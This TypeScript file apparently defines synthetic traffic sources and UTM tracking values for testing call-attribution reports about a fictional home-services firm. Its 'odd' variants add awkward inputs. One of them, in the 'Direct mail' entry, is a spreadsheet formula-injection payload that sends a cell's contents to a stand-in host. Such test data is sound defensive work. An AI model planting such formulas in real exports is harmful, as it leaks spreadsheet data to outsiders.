import type { DniField } from "../../calls/columns.ts";

type Choice = readonly [string, ...string[]];

/** A source of calls, and what its visits' DNI sessions contain. */
export interface Source {
  readonly insightName: string;
  readonly weight: number;
  readonly hasClickId?: true;
  readonly dni: Session;
  /** Difficult texts in place of those above: formulas, quotes, line breaks, blanks at the ends. */
  readonly odd?: Session;
}

/** One value of a member, or several to choose from; "" omits the member. */
type Session = Readonly<Partial<Record<DniField, string | Choice>>>;

const GOOGLE_CPC = { utm_source: "google", utm_medium: "cpc" } as const;
const BRAND = {
  utm_campaign: "brand_exact",
  campaign_name: "Brand | Exact",
  campaign_id: "17450923311",
} as const;
const SEARCH_PAGE = ["https://www.google.com/", "https://www.google.com/", ""] as const;

export const SOURCES: readonly [Source, ...Source[]] = [
  {
    insightName: "Google Ads - Brand",
    weight: 14,
    hasClickId: true,
    dni: {
      ...GOOGLE_CPC,
      ...BRAND,
      utm_content: ["headline_a", "headline_b", "sitelink_contact"],
      utm_term: ["northwind", "northwind home services", "north wind hvac"],
      gclsrc: ["", "", "", "aw.ds"],
      referring_url: SEARCH_PAGE,
    },
  },
  {
    insightName: "Google Ads - Emergency Plumbing",
    weight: 12,
    hasClickId: true,
    dni: {
      ...GOOGLE_CPC,
      utm_campaign: "emergency-plumbing",
      utm_content: ["call_now", "24_7", "ad_66120935"],
      utm_term: ["emergency plumber near me", "burst pipe repair", "24 hour plumber", "+plumber +austin"],
      gclsrc: ["", "", "aw.ds"],
      referring_url: SEARCH_PAGE,
      // A copied campaign keeps its name: two campaigns that only their ids distinguish.
      campaign_name: "Emergency Plumbing",
      campaign_id: ["17450930018", "17450930018", "21188402377"],
    },
  },
  {
    insightName: "Google Ads - AC Repair",
    weight: 10,
    hasClickId: true,
    dni: {
      ...GOOGLE_CPC,
      utm_campaign: "ac-repair-tx",
      utm_content: ["rsa_1", "rsa_2", "rsa_3"],
      utm_term: ["ac repair", "air conditioner not cooling", "hvac companies"],
      referring_url: SEARCH_PAGE,
      campaign_name: "AC Repair – Texas",
      campaign_id: "19004417265",
    },
    odd: {
      utm_campaign: ["ac-repair-tx", "ac-repair-tx", "AC-Repair-TX"],
      utm_term: ["ac repair", "air conditioner not cooling", "hvac companies", "ac réparation"],
    },
  },
  {
    insightName: "Google Ads - Brand",
    weight: 3,
    hasClickId: true,
    dni: { utm_source: "Google", utm_medium: "CPC", ...BRAND, utm_term: "Northwind" },
  },
  {
    insightName: "Google Ads - Brand",
    weight: 2,
    hasClickId: true,
    dni: { utm_source: ["google", "Google"], utm_medium: "cpc", ...BRAND },
    odd: { utm_source: ["google ", " google"], utm_medium: "cpc " },
  },
  {
    // Auto-tagging without a tracking template: only a click id.
    insightName: "Google Ads - Performance Max",
    weight: 7,
    hasClickId: true,
    dni: { gclsrc: ["aw.ds", "", ""], campaign_name: "PMax | Home Services", campaign_id: "20533716084" },
  },
  {
    insightName: "Google organic",
    weight: 9,
    dni: { utm_source: "google", utm_medium: "organic", referring_url: "https://www.google.com/" },
  },
  {
    insightName: "Google Business Profile",
    weight: 6,
    dni: {
      utm_source: "gbp",
      utm_medium: "organic",
      utm_campaign: "local-listing",
      utm_content: ["austin", "dallas", "houston", "san-antonio"],
      referring_url: "https://www.google.com/maps",
    },
  },
  {
    insightName: "Microsoft Ads",
    weight: 5,
    dni: {
      utm_source: ["bing", "bing", "Bing"],
      utm_medium: "cpc",
      utm_campaign: "bing_hvac_search",
      utm_content: ["ad_7712", "ad_7713"],
      utm_term: ["hvac repair", "furnace repair near me"],
      referring_url: "https://www.bing.com/",
      campaign_name: "HVAC Search (Bing)",
      campaign_id: "402517786",
    },
  },
  {
    // Search Ads 360 issues click ids for other platforms' clicks.
    insightName: "Microsoft Ads",
    weight: 1,
    hasClickId: true,
    dni: {
      utm_source: "bing",
      utm_medium: "cpc",
      gclsrc: "3p.ds",
      campaign_name: "HVAC Search (Bing)",
      campaign_id: "402517786",
    },
    odd: { campaign_name: "" },
  },
  {
    insightName: "Facebook Ads",
    weight: 6,
    dni: {
      utm_source: ["facebook", "facebook", "fb", "Facebook"],
      utm_medium: ["paid_social", "paid_social", "paid-social"],
      utm_campaign: "spring_tune_up",
      utm_content: ["carousel_3", "video_15s", "static_blue"],
      utm_term: ["homeowners_tx", "lookalike_1pct"],
      referring_url: ["https://l.facebook.com/", "http://m.facebook.com/", ""],
      campaign_name: "Spring Tune-Up",
      campaign_id: "120208845510330456",
    },
  },
  {
    insightName: "Facebook Ads",
    weight: 1,
    dni: {
      utm_source: "fb",
      utm_medium: "paid_social",
      utm_campaign: "summer_cool_down",
      utm_content: "carousel_2",
      campaign_name: "Summer Cool-Down",
      campaign_id: "120208845510330991",
    },
    odd: {
      utm_campaign: 'Summer "Cool Down", 20% off 🌞\nJuly',
      utm_content: "carousel; 2",
      campaign_name: 'Summer "Cool Down", 20% off 🌞\nJuly',
    },
  },
  {
    insightName: "Newsletter",
    weight: 4,
    dni: {
      utm_source: "newsletter",
      utm_medium: "email",
      utm_campaign: ["spring-checklist", "members-only", "win-back"],
      utm_content: ["header_button", "footer_phone"],
    },
  },
  {
    insightName: "Referral",
    weight: 4,
    dni: {
      referring_url: [
        "https://www.yelp.com/biz/northwind-home-services-austin",
        "https://nextdoor.com/pages/northwind-home-services/",
        "https://www.angi.com/companylist/us/tx/austin/northwind.htm?sid=aB3",
        "http://www.bbb.org/us/tx/dallas/profile/heating-and-air/northwind",
      ],
    },
  },
  {
    insightName: "Organic search",
    weight: 4,
    dni: { referring_url: ["https://duckduckgo.com/", "https://www.bing.com/", "https://search.yahoo.com/"] },
  },
  { insightName: "Direct", weight: 11, dni: {} },
  {
    insightName: "Direct mail",
    weight: 0.5,
    dni: { utm_source: "postcard", utm_medium: "print", utm_campaign: "fall-postcard" },
    // Visitors' input reaches the report: here, a spreadsheet formula.
    odd: {
      utm_source: '=HYPERLINK("https://evil.example/?x="&A1,"offer")',
      utm_medium: "-",
      utm_campaign: "@promo",
    },
  },
];
